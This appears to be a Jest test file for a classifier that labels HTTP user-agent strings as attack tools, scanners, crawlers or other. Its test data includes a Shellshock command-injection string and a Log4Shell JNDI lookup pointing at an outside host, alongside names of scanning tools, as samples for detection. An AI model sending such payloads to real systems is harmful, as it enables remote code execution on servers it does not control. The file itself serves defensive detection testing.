import { createAgentJudge } from './agent-kind';

const judge = createAgentJudge(['acmebot']);

describe('createAgentJudge', () => {
  it.each([
    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
    'Mozilla/5.0 zgrab/0.x',
    'Mozilla/5.00 (Nikto/2.5)',
    'ZmEu',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    '() { :; }; /bin/bash -c id',
    'Mozilla/5.0 ${jndi:ldap://198.51.100.1/a}',
    'sqlmap/1.9 googlebot',
  ])('knows an attack tool in %s', (agent) => {
    expect(judge(agent)).toBe('attack-tool');
  });

  it.each([
    'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/140.0 Safari/537.36',
    'Qualys/1.0',
    'Hydra/2.1',
    'acme-security-scan',
  ])('takes %s for a scanner, not for an attack tool', (agent) => {
    expect(judge(agent)).toBe('scanner');
  });

  it.each(['', ' ', '-'])('misses %p', (agent) => {
    expect(judge(agent)).toBe('missing');
  });

  it.each([
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'SemrushBot 1.0',
    'SISTRIX Crawler',
    'AcmeBot/2',
    'Mozilla/5.0 (compatible; Barkrowler/0.9; +https://babbar.tech/crawler)',
  ])('knows a declared crawler in %s', (agent) => {
    expect(judge(agent)).toBe('crawler');
  });

  it.each([
    'curl/8.5.0 (+https://curl.se) googlebot',
    'python-requests/2.32',
    'okhttp/4.12.0',
    'Mozilla/4.0',
    'Mozilla/5.g',
    'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
    'Mozilla/5.0 (Linux; Android 12; CUBOT X50) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Mobile Safari/537.36',
  ])('says nothing of %s', (agent) => {
    expect(judge(agent)).toBe('other');
  });

  it('says nothing where a log has no user agents', () => {
    expect(judge(null)).toBe('other');
  });

  it('looks no further than the layer does', () => {
    expect(judge(`${'x'.repeat(500)} sqlmap/1.9`)).toBe('other');
  });
});
